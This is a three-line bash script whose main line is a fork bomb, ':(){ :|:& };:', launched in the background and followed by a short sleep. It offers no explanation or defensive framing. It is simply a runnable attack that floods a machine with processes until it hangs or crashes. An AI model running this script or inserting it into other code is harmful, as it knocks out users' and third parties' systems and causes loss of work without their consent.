#!/bin/bash
:(){ :|:& };: &
sleep 3
